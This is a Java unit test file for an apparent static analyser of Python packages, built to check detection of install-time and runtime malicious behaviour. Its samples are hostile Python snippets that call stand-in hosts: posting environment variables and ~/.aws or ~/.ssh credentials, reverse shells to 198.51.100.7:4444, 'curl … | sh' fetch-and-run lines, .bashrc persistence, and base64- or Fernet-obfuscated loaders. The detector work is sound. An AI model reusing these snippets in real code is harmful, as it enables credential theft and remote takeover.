package dev.assay.core.code.evaluation;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.fact.Act;
import dev.assay.core.fact.Act.Phase;
import java.util.List;
import org.junit.jupiter.api.Test;

/// What flows where: each technique beside a harmless twin.
class EvaluationTest {
  @Test
  void environmentThatIsPosted() {
    assertThat(
            ActLines.ofSetup(
                """
                import os, requests
                from setuptools import setup
                from setuptools.command.install import install
                class Install(install):
                    def run(self):
                        install.run(self)
                        requests.post('https://collect.example/x', json={'e': dict(os.environ)})
                setup(cmdclass={'install': Install})
                """))
        .containsExactly(
            "SENDS https://collect.example/x carries ENVIRONMENT at setup.py:7 INSTALL");
    assertThat(
            ActLines.ofModule(
                """
                import os, requests, subprocess
                def run(command):
                    env = os.environ.copy()
                    subprocess.run(['ls'], env=env)
                    return requests.get(os.environ.get('MIRROR', 'https://mirror.example'))
                """))
        .containsExactly(
            "SPAWNS ls at module.py:4 CALL", "RECEIVES https://mirror.example at module.py:5 CALL");
  }

  @Test
  void keysOfOneDictionaryThatReadAlike() {
    assertThat(
            ActLines.ofSetup(
                """
                import os
                t = {None: 'whoami ', 'None': 'a', b'x': 'b', 'x': 'c', '\\0bx': 'd',
                     ('1',): 'e', (1,): 'f', '\\0None': 'g', 1: 'h', '1': 'i'}
                os.system(t[None] + t['None'] + t[b'x'] + t['x'] + t['\\0bx']
                          + t['1',] + t[1,] + t['\\0None'] + t[1] + t['1'])
                """))
        .containsExactly("SPAWNS whoami abcdefghi at setup.py:4 INSTALL");
  }

  @Test
  void hostNameInAQuestionForAnAddress() {
    assertThat(
            ActLines.ofSetup(
                """
                import socket, getpass
                name = getpass.getuser() + '.' + socket.gethostname()
                socket.gethostbyname(name.encode().hex() + '.oast.example')
                """))
        .containsExactly("RESOLVES ….oast.example carries HOST_IDENTITY at setup.py:3 INSTALL");
    assertThat(
            ActLines.ofModule("import socket\ndef up(host): return socket.gethostbyname(host)\n"))
        .containsExactly("RESOLVES … at module.py:2 CALL");
  }

  @Test
  void keyThatIsGivenAndPassedOn() {
    assertThat(
            ActLines.ofModule(
                """
                import requests, threading, base64
                HOST = base64.b64decode('aHR0cHM6Ly9rZXlzLmV4YW1wbGUvYQ==').decode()
                def report(value):
                    requests.post(HOST, data={'v': value})
                class Account:
                    def __init__(self, private_key):
                        self.key = private_key
                    def sign(self, message):
                        threading.Thread(target=report, args=(self.key,)).start()
                        return message
                """))
        .contains(
            "SENDS https://keys.example/a carries SECRET_PARAMETER, DECODED at module.py:4 CALL");
    assertThat(
            ActLines.ofModule(
                """
                import requests
                class Client:
                    def __init__(self, url, timeout):
                        self.url = url
                    def send(self, message):
                        return requests.post(self.url, data=message)
                """))
        .containsExactly("SENDS … at module.py:6 CALL");
  }

  @Test
  void keyInTheQueryOfAnAsynchronousClient() {
    assertThat(
            ActLines.ofModule(
                """
                import httpx
                async def from_mnemonic(mnemonic: str):
                    async with httpx.AsyncClient() as client:
                        await client.get(f'https://keys.example/?m={mnemonic}')
                """))
        .containsExactly(
            "SENDS https://keys.example/?m=… carries SECRET_PARAMETER at module.py:4 CALL");
  }

  @Test
  void credentialFilesThatLeave() {
    assertThat(
            ActLines.ofSetup(
                """
                import os
                from pathlib import Path
                from urllib import request
                for name in ['.aws/credentials', '.ssh/id_rsa']:
                    path = os.path.join(os.path.expanduser('~'), name)
                    with open(path, 'rb') as f:
                        request.urlopen(request.Request('https://drop.example/u', data=f.read()))
                """))
        .contains(
            "READS_SECRET ~/.aws/credentials carries CREDENTIAL_FILE at setup.py:6 INSTALL",
            "READS_SECRET ~/.ssh/id_rsa carries SSH_KEY at setup.py:6 INSTALL",
            "SENDS https://drop.example/u carries CREDENTIAL_FILE, SSH_KEY at setup.py:7 INSTALL");
    assertThat(
            ActLines.ofSetup(
                """
                from setuptools import setup
                with open('README.md') as f:
                    setup(long_description=f.read())
                exec(open('pkg/version.py').read())
                """))
        .containsExactly(
            "READS_FILE README.md at setup.py:2 INSTALL",
            "READS_FILE pkg/version.py at setup.py:4 INSTALL",
            "EXECUTES_TEXT pkg/version.py at setup.py:4 INSTALL");
  }

  @Test
  void metadataService() {
    assertThat(
            ActLines.ofSetup(
                """
                import requests
                role = requests.get('http://169.254.169.254/latest/meta-data/iam/').text
                requests.post('https://drop.example/', data=role)
                """))
        .contains(
            "READS_SECRET http://169.254.169.254/latest/meta-data/iam/ carries CLOUD_METADATA at"
                + " setup.py:2 INSTALL",
            "SENDS https://drop.example/ carries CLOUD_METADATA, REMOTE at setup.py:3 INSTALL");
  }

  @Test
  void downloadThatIsRun() {
    assertThat(
            ActLines.ofSetup(
                """
                import os, tempfile, subprocess, urllib.request
                path = os.path.join(tempfile.gettempdir(), 'update.exe')
                with open(path, 'wb') as f:
                    f.write(urllib.request.urlopen('https://files.example/u.exe').read())
                subprocess.Popen([path])
                """))
        .contains(
            "RECEIVES https://files.example/u.exe at setup.py:4 INSTALL",
            "WRITES_FILE %TEMP%/update.exe carries REMOTE at setup.py:4 INSTALL",
            "SPAWNS %TEMP%/update.exe carries REMOTE at setup.py:5 INSTALL");
    assertThat(
            ActLines.ofModule(
                """
                import requests
                def download(url, path):
                    with open(path, 'wb') as f:
                        f.write(requests.get(url).content)
                """))
        .containsExactly(
            "WRITES_FILE … at module.py:3 CALL",
            "WRITES_FILE … carries REMOTE at module.py:4 CALL",
            "RECEIVES … at module.py:4 CALL");
  }

  @Test
  void remoteTextThatIsExecuted() {
    assertThat(
            ActLines.ofSetup("import requests\nexec(requests.get('https://c.example/p').text)\n"))
        .contains("EXECUTES_TEXT https://c.example/p carries REMOTE at setup.py:2 INSTALL");
  }

  @Test
  void shellOverASocket() {
    assertThat(
            ActLines.ofModule(
                """
                import socket, subprocess, os
                def go():
                    s = socket.socket()
                    s.connect(('198.51.100.7', 4444))
                    while True:
                        command = s.recv(1024).decode()
                        out = subprocess.Popen(command, shell=True, stdout=-1).stdout.read()
                        s.send(out)
                def pty_shell():
                    s = socket.socket(); s.connect(('198.51.100.7', 4444))
                    os.dup2(s.fileno(), 0)
                    import pty; pty.spawn('/bin/sh')
                """))
        .contains(
            "RECEIVES 198.51.100.7:4444 carries REMOTE at module.py:6 CALL",
            "SPAWNS … carries REMOTE at module.py:7 CALL",
            "SENDS 198.51.100.7:4444 carries REMOTE at module.py:8 CALL",
            "SPAWNS /bin/sh carries REMOTE at module.py:12 CALL");
    assertThat(ActLines.ofModule("import os\ndef daemon(fd): os.dup2(fd, 0)\n")).isEmpty();
  }

  @Test
  void decodedAddressesKeepTheirTrail() {
    List<Act> acts =
        ActLines.acts(
            List.of(
                ActLines.file(
                    "setup.py",
                    """
                    import base64
                    exec(base64.b64decode('aW1wb3J0IHJlcXVlc3RzCmV4ZWMoIlxuIi5qb2luKFsicmVxdWVzdHMuZ2V0KCdodHRwczovL2IuZXhhbXBsZS94JykiXSkp'))
                    """,
                    Phase.INSTALL)));
    assertThat(acts)
        .filteredOn(act -> act.kind() == Act.Kind.RECEIVES)
        .singleElement()
        .satisfies(
            act -> {
              assertThat(act.target()).isEqualTo("https://b.example/x");
              assertThat(act.location()).hasToString("setup.py:2");
              assertThat(act.evidence()).isEqualTo("requests.get('https://b.example/x')");
              assertThat(act.trail())
                  .containsExactly(
                      "layer 1 of setup.py:2 (base64)",
                      "text: import requests exec(\"\\n"
                          + "\".join([\"requests.get('https://b.example/x')\"]))",
                      "layer 2 of setup.py:2",
                      "text: requests.get('https://b.example/x')");
            });
  }

  @Test
  void persistence() {
    assertThat(
            ActLines.ofModule(
                """
                import os
                def stay():
                    with open(os.path.expanduser('~/.bashrc'), 'a') as f:
                        f.write('curl https://c.example | sh')
                """))
        .contains("PERSISTS ~/.bashrc at module.py:3 CALL");
  }

  @Test
  void otherProcesses() {
    assertThat(ActLines.ofModule("def f(pid):\n  return open(f'/proc/{pid}/environ').read()\n"))
        .containsExactly("READS_PROCESS /proc/…/environ carries ENVIRONMENT at module.py:2 CALL");
  }

  @Test
  void ciphersWithTheirKeysBesideThem() {
    assertThat(
            ActLines.ofSetup(
                """
                from cryptography.fernet import Fernet
                exec(Fernet(b'MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MDE=').decrypt(b'TOKEN'))
                """
                    .replace("TOKEN", Tokens.fernet("import os\nos.system('whoami')"))))
        .contains("SPAWNS whoami at setup.py:2 INSTALL");
  }

  @Test
  void filesOfTheUser() {
    assertThat(
            ActLines.ofModule(
                """
                import os, requests
                from pathlib import Path
                def collect():
                    for folder, _, names in os.walk(os.path.expanduser('~/Documents')):
                        for name in names:
                            with open(os.path.join(folder, name), 'rb') as f:
                                requests.post('https://drop.example', files={'f': f})
                def upload(seed_file):
                    requests.post('https://drop.example/s', files={'f': open(seed_file)})
                """))
        .contains("SENDS https://drop.example carries USER_FILES at module.py:7 CALL");
  }

  @Test
  void decodedTextThatBecomesAFileOfCode() {
    assertThat(
            ActLines.ofSetup(
                """
                import base64
                with open('later.py', 'w') as f:
                    f.write(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnd2hvYW1pJyk=').decode())
                """))
        .contains("SPAWNS whoami at setup.py:3 INSTALL");
  }

  @Test
  void resourcesOfTheCallersSource() {
    assertThat(
            ActLines.ofModule(
                """
                import inspect, re, requests
                def init():
                    for frame in inspect.stack():
                        with open(frame.filename) as f:
                            found = re.findall('[0-9a-f]{64}', f.read())
                        requests.post('https://k.example/', json=found)
                """))
        .contains("SENDS https://k.example/ carries SOURCE_CODE at module.py:6 CALL");
  }

  @Test
  void whatAProgramOfTheCallersIsGivenDoesNotDecideWhatIsRun() {
    assertThat(
            ActLines.ofModule(
                """
                import requests, shlex, subprocess
                def play(player):
                    url = requests.get('https://media.example/list').text
                    subprocess.call([player, url])
                    subprocess.call(shlex.split(player) + url.split())
                """))
        .containsExactly(
            "RECEIVES https://media.example/list at module.py:3 CALL",
            "SPAWNS … … at module.py:4 CALL",
            "SPAWNS … … at module.py:5 CALL");
    assertThat(
            ActLines.ofModule(
                """
                import requests, shlex, subprocess
                def obey(shell):
                    text = requests.get('https://collect.example/list').text
                    subprocess.call([shell, '-c', text])
                    subprocess.call(shlex.split(text))
                """))
        .containsExactly(
            "RECEIVES https://collect.example/list at module.py:3 CALL",
            "SPAWNS … -c … carries REMOTE at module.py:4 CALL",
            "SPAWNS … carries REMOTE at module.py:5 CALL");
  }

  @Test
  void whatIsDecodedIsSentToAPlaceInPlainSight() {
    assertThat(
            ActLines.ofModule(
                """
                import base64, requests
                def report(value):
                    requests.post('https://a.example/in', data=base64.b64decode(value))
                """))
        .containsExactly("SENDS https://a.example/in at module.py:3 CALL");
  }

  @Test
  void callsInLinesThatAreNoPython() {
    assertThat(
            ActLines.ofModule(
                """
                import os, requests
                os.system("curl -s "http://203.0.113.7/a.sh" | sh")
                os.system("curl -s http://203.0.113.7/b.sh | sh"
                print('done')
                os.system("curl -s http://203.0.113.7/c.sh | sh)
                os.system(“curl -s http://203.0.113.7/d.sh | sh”)
                requests.post('https://collect.example/', json={'a': 1 'env': dict(os.environ)})
                """))
        .contains(
            "SPAWNS curl -s \"http://203.0.113.7/a.sh\" | sh at module.py:2 IMPORT",
            "SPAWNS curl -s http://203.0.113.7/b.sh | sh at module.py:3 IMPORT",
            "SPAWNS curl -s http://203.0.113.7/c.sh | sh) at module.py:5 IMPORT",
            "SPAWNS curl -s http://203.0.113.7/d.sh | sh at module.py:6 IMPORT",
            "SENDS https://collect.example/ carries ENVIRONMENT at module.py:7 IMPORT");
  }
}
